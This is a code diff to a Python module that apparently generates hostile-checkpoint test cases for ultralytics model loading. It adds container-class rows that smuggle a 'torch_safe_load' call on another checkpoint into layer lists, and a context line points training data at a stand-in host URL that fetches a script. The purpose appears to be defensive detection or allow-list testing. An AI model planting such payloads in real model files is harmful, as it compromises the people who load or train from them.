@@ -135,6 +135,9 @@ def _identity(place: str) -> tuple[object, ...]:
     return ("storage", Name("torch", "FloatStorage"), "1", place, 4)
 
 
+_CONTAINER = "torch.nn.modules.container"
+
+
 def acted_on() -> Iterator[Hostile]:
     """Plain text that ultralytics evaluates, calls or fetches when somebody trains from the checkpoint (tried)."""
     layers = {"nc": 80, "backbone": [[-1, 1, "Conv", [64, 3, 2]]], "head": [[[0], 1, "Detect", ["nc"]]]}
@@ -168,6 +171,15 @@ def acted_on() -> Iterator[Hostile]:
     empty = Raw(assemble({"backbone": Raw(b"]q\x61")})[2:-1])
     fill = Raw(b"h\x61" + _code([-1, 1, "torch_safe_load", ["'next.pt'"]]) + b"a")
     yield gadget("a layer added to the list later", lambda _: [empty, fill], because="has a layer", runs=False)
+    # Layers that hold others than layers are lists by another name (tried: `parse_model` takes such a row apart).
+    for kind, because in (("Sequential", "a child that is none"), ("ParameterList", "not on the allow-list")):
+        items: dict[str, object] = dict(zip("0123", (-1, 1, "torch_safe_load", ["'next.pt'"]), strict=True))
+        row_of = Built(
+            New(Name(_CONTAINER, kind)), ({"_modules": items} if kind == "Sequential" else items | {"_size": 4},)
+        )
+        rows = Built(New(Name(_CONTAINER, "ModuleList")), ({"_modules": {"0": row_of}},))
+        yaml = model(lambda _, rows=rows: {"backbone": rows})  # type: ignore[misc]
+        yield gadget(f"rows that are a {kind}", yaml, because=because, runs=False)
     settings = {"train_args": {"data": "https://example.com/evil.yaml"}}
     yield gadget("a data set to fetch, with a script", lambda _: settings, because="upon its `data`", runs=False)
 
